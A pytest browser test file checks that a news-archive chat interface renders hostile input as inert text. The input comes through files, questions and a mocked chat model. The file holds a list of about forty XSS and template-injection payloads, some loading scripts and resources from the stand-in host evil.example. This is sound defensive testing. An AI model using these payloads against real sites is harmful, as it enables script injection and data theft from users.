"""Hostile text in real Chromium, through three doors (file, question, chat model): it is shown, and never obeyed."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.browser import DESKTOP, Reader, installed_chromium, running_chat
from tests.chat_server import ChatServer, Script
from ui.render import displayed

if TYPE_CHECKING:
    from playwright.sync_api import Page

    from rag.interfaces import Embedder

pytestmark = pytest.mark.slow

# Whatever runs sets window.ran; whatever loads asks host evil.example.
RUN = "window.ran=1"
AWAY = "http://evil.example"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={AWAY}/a.js></sCrIpT>",
    f"<img src={AWAY}/i.png>",
    f"<img src=x onerror={RUN}>",
    f'<img srcset="{AWAY}/s.png 1x" loading=eager>',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><image href="{AWAY}/v.png"/></svg>',
    f'<svg><use href="{AWAY}/u.svg#a"/></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text x=1 y=9>a</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<iframe src=javascript:{RUN}></iframe>",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    f"<object data={AWAY}/o.swf></object><embed src={AWAY}/e.swf>",
    f"<style>@import '{AWAY}/c.css'; body {{ background: url({AWAY}/b.png) }}</style>",
    f'<div style="background:url({AWAY}/d.png)">a</div>',
    f'<link rel=stylesheet href="{AWAY}/l.css">',
    f'<meta http-equiv=refresh content="0;url={AWAY}/m">',
    f"<base href={AWAY}/>",
    f"<form action={AWAY}><input autofocus onfocus={RUN}><button>a</button></form>",
    f"<details open ontoggle={RUN}>a</details>",
    f"<video poster={AWAY}/p.png src={AWAY}/v.mp4 autoplay onerror={RUN}></video>",
    f"<audio src={AWAY}/a.mp3 autoplay onerror={RUN}></audio>",
    f"<body onload={RUN}><marquee onstart={RUN}>a</marquee>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"![foto]({AWAY}/i.png) [enlace](javascript:{RUN}) <{AWAY}/auto>",
    f"[1]: {AWAY}/ref [1] [^1] 【1】 ![1][1]",
    f"javascript:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    f"$$\\href{{javascript:{RUN}}}{{a}}$$ \\(\\includegraphics{{{AWAY}/t.png}}\\)",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= 7*7 %> {{% raw %}} #{{{RUN}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &amp;lt;b&amp;gt;",
    f"<gradio-app src={AWAY}></gradio-app> @children <slot></slot> <hr><a href={AWAY} data-evidence=x>a</a>",
)
GROUPS = [PAYLOADS[at : at + 10] for at in range(0, len(PAYLOADS), 10)]
TOPICS = ("el puente", "la biblioteca", "el mercado", "la estación")
LIVE_TAGS = {
    *("script", "img", "svg", "math", "iframe", "object", "embed", "style", "link", "meta", "base", "form", "input"),
    *("video", "audio", "marquee", "table", "textarea", "slot", "gradio-app", "noscript", "title"),
}
# Of the conversation and the evidence: which tags there are, and where links lead.
_FOUND = """() => {
  const inside = [...document.querySelectorAll("#hm-log *, #hm-evidence *, #hm-head .hm-masthead *")];
  const all = [...document.body.querySelectorAll("*")];
  return {
    tags: [...new Set(inside.map((element) => element.localName))],
    handlers: all.flatMap((element) => element.getAttributeNames().filter((name) => /^on|^srcdoc$/.test(name))),
    links: all.filter((element) => element.hasAttribute("href") || element.hasAttribute("xlink:href"))
      .filter((element) => element.localName !== "link")
      .map((element) => element.getAttribute("href") || element.getAttribute("xlink:href")),
    styles: inside.map((element) => element.getAttribute("style")).filter((style) => /url|evil/.test(style)),
    ran: window.ran,
  };
}"""


def lead(payloads: Sequence[str]) -> str:
    return min(payloads, key=len)


def row(number: int, payloads: Sequence[str]) -> dict[str, str]:
    topic, joined = TOPICS[number], " ".join(payloads)
    said = [
        f"La alcaldesa de Almoral anunció {topic} con {payload} para el año {2030 + number}." for payload in payloads
    ]
    return {
        # The examples show the first words of a title.
        "title": f"{lead(payloads)} {topic} {joined}",
        "outlet": f"Medio {number} {joined}",
        "author": joined,
        "id": joined,
        "url": f"https://almoral.example/{number}?{payloads[3]}",
        "text": " ".join(said),
        "published": f"2030-01-0{number + 1}",
    }


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory, embedder: Embedder) -> Path:
    """An archive whose articles hold every payload in every field, and whose files are named like some."""
    from ingest import ingest
    from rag.archive import Archive
    from rag.config import Settings

    news = tmp_path_factory.mktemp("news")
    rows = [json.dumps(row(number, payloads)) for number, payloads in enumerate(GROUPS)]
    (news / "rows.jsonl").write_text("\n".join(rows), encoding="utf-8")
    for number, payload in enumerate([payload for payload in PAYLOADS if "/" not in payload][:6]):
        text = f"El concejal de Almoral cerró la piscina número {number}. Nadie dijo por qué."
        (news / f"{payload}.txt").write_text(text, encoding="utf-8")
    archive_folder = tmp_path_factory.mktemp("hostile") / "archive"
    with Archive.open(archive_folder, create=True, embedder=embedder, settings=Settings()) as archive:
        assert not ingest(archive, news).failures
    return archive_folder


@pytest.fixture(scope="module")
def model() -> Iterator[ChatServer]:
    """A chat model that fails with hostile words, until a test gives it others to say."""
    with ChatServer({"m": Script(status=400, message=" ".join(PAYLOADS[:4]))}) as server:
        yield server


@pytest.fixture(scope="module")
def reader(folder: Path, model: ChatServer) -> Iterator[Reader]:
    settings = {
        "answer.model": "openai:m",
        "answer.base_url": model.base_url,
        "answer.min_confidence": 0,
        "answer.max_statements": 20,
        # The one that says most.
        "reading.reader": "sentences",
    }
    options = [word for key, value in settings.items() for word in ("--set", f"{key}={value}")]
    with running_chat(folder, "--port", "7900", *options) as (_, url, _), installed_chromium() as browser:
        reader = Reader(browser, url, size=DESKTOP)
        yield reader
        # Nothing else was asked for, nothing went wrong in the page, no dialogue was opened.
        reader.close()


def assert_dead(page: Page) -> None:
    """Nothing on the page came alive, and no link leads elsewhere than to the web or into the page."""
    # What a payload would load or run needs a moment.
    page.wait_for_timeout(200)
    found: dict[str, Any] = page.evaluate(_FOUND)
    assert found["ran"] is None
    assert not LIVE_TAGS & set(found["tags"])
    assert found["handlers"] == []
    assert found["styles"] == []
    assert [link for link in found["links"] if not link.startswith(("#", "https://almoral.example/"))] == []


def not_shown(page: Page, selector: str, texts: Sequence[str]) -> list[str]:
    shown = " ".join("".join(page.locator(selector).all_text_contents()).split())
    return [text for text in texts if " ".join(displayed(text).split()) not in shown]


def assert_shown(page: Page, selector: str, texts: Sequence[str]) -> None:
    assert not_shown(page, selector, texts) == []


def test_files_are_shown_as_text_in_examples_answers_evidence_and_filters(reader: Reader) -> None:
    page = reader.page
    assert_shown(page, "#hm-examples", [lead(group) for group in GROUPS])
    assert_dead(page)
    page.click("#hm-examples button >> nth=0")
    reader.wait_for_answer(1)
    for turn, topic in enumerate(TOPICS, start=2):
        reader.ask(f"¿Para qué año anunció la alcaldesa de Almoral {topic}?", turn=turn)
        assert reader.status(turn) == "answered"
    reader.ask("¿Quién cerró la piscina de Almoral?", turn=6)
    # Which sentences are chosen for an answer is not what is tested here; the evidence holds the whole articles.
    assert len(not_shown(page, "#hm-log .hm-text", PAYLOADS)) <= len(PAYLOADS) // 3
    for part in (".hm-card h4", ".hm-card .hm-facts", ".hm-card .hm-article"):
        assert_shown(page, f"#hm-evidence {part}", PAYLOADS)
    assert_shown(page, "#hm-log .hm-notice", PAYLOADS[:2])
    for summary in page.locator("#hm-evidence summary:visible").all():
        summary.click()
    assert_dead(page)
    page.click("#turn-1 [data-action=evidence]")
    page.click("#hm-filters button >> nth=0")
    page.click("#hm-filters [role=combobox]")
    page.wait_for_selector("[role=listbox] [role=option]")
    assert_shown(page, "[role=listbox]", PAYLOADS)
    assert_dead(page)
    page.keyboard.press("Escape")
    page.get_by_label("English").check()
    page.wait_for_selector("#hm-ask-button:has-text('Ask')")
    assert_dead(page)


def test_questions_are_shown_as_text(reader: Reader) -> None:
    page = reader.page
    page.click("#hm-new")
    page.wait_for_selector("#hm-examples button:visible")
    for turn, payloads in enumerate(GROUPS, start=1):
        reader.ask(f"¿Qué anunció la alcaldesa? {' '.join(payloads)}", turn=turn)
    assert_shown(page, "#hm-log .hm-question", PAYLOADS)
    assert_shown(page, "#hm-evidence .hm-about", PAYLOADS)
    assert_dead(page)


def test_what_a_chat_model_writes_is_shown_as_text(reader: Reader, model: ChatServer) -> None:
    page = reader.page
    page.click("#hm-new")
    page.wait_for_selector("#hm-examples button:visible")
    for turn, (topic, payloads) in enumerate(zip(TOPICS, GROUPS, strict=True), start=1):
        true = f"La alcaldesa de Almoral anunció {topic} para el año {2029 + turn} {{}}[1][2][3][4]."
        model.scripts["m"] = Script([true.format(""), *(f"\n{true.format(f'con {each} ')}" for each in payloads)])
        reader.ask(f"¿Para qué año anunció la alcaldesa de Almoral {topic}?", turn=turn)
        assert page.locator(f"#turn-{turn} .hm-small", has_text="openai:m").count() == 1
    # Its own markers are taken out of what it writes, and its line starts are no lists.
    assert_shown(page, "#hm-log .hm-text", [each for each in PAYLOADS if "[" not in each and "**" not in each])
    assert_dead(page)
